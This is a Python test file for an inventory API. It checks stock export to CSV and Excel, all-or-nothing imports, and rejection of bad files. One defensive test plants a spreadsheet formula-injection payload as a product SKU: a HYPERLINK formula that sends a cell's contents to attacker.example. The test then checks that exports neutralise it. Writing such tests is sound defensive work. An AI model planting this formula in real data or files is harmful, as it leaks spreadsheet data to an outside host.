"""Stock levels out to CSV and Excel and back in, all rows or none."""
from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook

from tests.platform.test_api_tokens import assert_problem


def levels(client, headers):
    return {(r["sku"], r["warehouse"]): r["on_hand"]
            for r in client.get("/api/v1/stock", headers=headers).get_json()}


def upload(client, headers, data: bytes, name: str, mode: str | None = None):
    form = {"file": (io.BytesIO(data), name)}
    if mode:
        form["mode"] = mode
    return client.post("/api/v1/stock/import", headers=headers, data=form,
                       content_type="multipart/form-data")


def test_csv_export_then_import_with_mode_set_round_trips(client, shop):
    response = client.get("/api/v1/stock/export?format=csv", headers=shop)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0] == {"sku": "CUP-02", "warehouse": "HZ", "on_hand": "30", "reserved": "0",
                       "available": "30"}
    for row in rows:
        row["on_hand"] = str(int(row["on_hand"]) + 1)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    stored = upload(client, shop, out.getvalue().encode(), "count.csv", mode="set")
    assert stored.status_code == 201, stored.get_json()
    assert stored.get_json()["adjusted"] == 4
    assert levels(client, shop)[("CUP-02", "HZ")] == 31
    again = client.get("/api/v1/stock/export?format=csv", headers=shop)
    assert list(csv.DictReader(io.StringIO(again.get_data().decode("utf-8-sig")))) == [
        {**row, "available": row["on_hand"]} for row in rows]


def test_xlsx_export_and_receipt_import(client, shop):
    response = client.get("/api/v1/stock/export?format=xlsx", headers=shop)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    exported = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert exported[0] == ["sku", "warehouse", "on_hand", "reserved", "available"]
    assert ["TEA-01", "SH", 4, 0, 4] in exported
    book = Workbook()
    book.active.append(["sku", "warehouse", "quantity", "reference"])
    book.active.append(["TEA-01", "SH", 6, "PO-77"])
    data = io.BytesIO()
    book.save(data)
    stored = upload(client, shop, data.getvalue(), "receipts.xlsx")
    assert stored.status_code == 201, stored.get_json()
    assert levels(client, shop)[("TEA-01", "SH")] == 10


def test_import_with_bad_rows_stores_nothing_and_names_each_row(client, shop):
    data = (b"sku,warehouse,quantity,reference\n"
            b"TEA-01,HZ,5,ok\n"
            b"NOPE-9,HZ,5,\n"
            b"CUP-02,HZ,five,\n"
            b"CUP-02,XX,1,\n")
    body = assert_problem(upload(client, shop, data, "receipts.csv"), 422)
    details = [e["detail"] for e in body["errors"]]
    assert details == ["row 3: there is no product with SKU 'NOPE-9'",
                       "row 4: the quantity 'five' is not a whole number",
                       "row 5: there is no warehouse 'XX'"]
    assert levels(client, shop)[("TEA-01", "HZ")] == 20  # the good row was not stored either


def test_files_that_are_not_stock_files_are_refused_precisely(client, shop):
    assert_problem(upload(client, shop, b"\x89PNG\r\n\x1a\n\x00\x00", "photo.png"), 415)
    assert_problem(upload(client, shop, b"\xd0\xcf\x11\xe0rest", "old.xls"), 415)
    body = assert_problem(upload(client, shop, b"sku,where\nA,B\n", "x.csv"), 422)
    assert "missing: warehouse, quantity" in body["detail"]
    assert_problem(client.post("/api/v1/stock/import", headers=shop, json={}), 415)


def test_a_file_over_the_size_limit_is_413(client, shop, app):
    app.config["MAX_CONTENT_LENGTH"] = 1000
    assert_problem(upload(client, shop, b"sku,warehouse,quantity\n" + b"A,B,1\n" * 500,
                          "big.csv"), 413)


def test_formula_text_in_the_stock_export_stays_text_and_imports_back(client, shop):
    """A SKU or warehouse code anyone typed must not run as a formula when staff open
    the export, like every other export; the file still imports back unchanged."""
    from orderloom.runtime.spreadsheets.formulas import FORMULA_START

    sku = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    assert client.post("/api/v1/products", headers=shop,
                       json={"sku": sku, "name": "Bait"}).status_code == 201
    assert client.post("/api/v1/warehouses", headers=shop,
                       json={"code": "-SH", "name": "Dash"}).status_code == 201
    assert client.post("/api/v1/stock/receipts", headers=shop,
                       json={"sku": sku, "warehouse": "-SH", "quantity": 3}).status_code == 201
    csv_file = client.get("/api/v1/stock/export?format=csv", headers=shop).get_data()
    rows = list(csv.reader(io.StringIO(csv_file.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(client.get("/api/v1/stock/export?format=xlsx",
                                               headers=shop).get_data()))
    cells = [c for r in book.worksheets[0].iter_rows(values_only=True) for c in r]
    for cell in [c for r in rows for c in r] + cells:
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_START)), cell
    assert ["'" + sku, "'-SH", "3", "0", "3"] in rows
    before = levels(client, shop)
    stored = upload(client, shop, csv_file, "count.csv", mode="set")
    assert stored.status_code == 201, stored.get_json()
    assert levels(client, shop) == before
    assert before[(sku, "-SH")] == 3
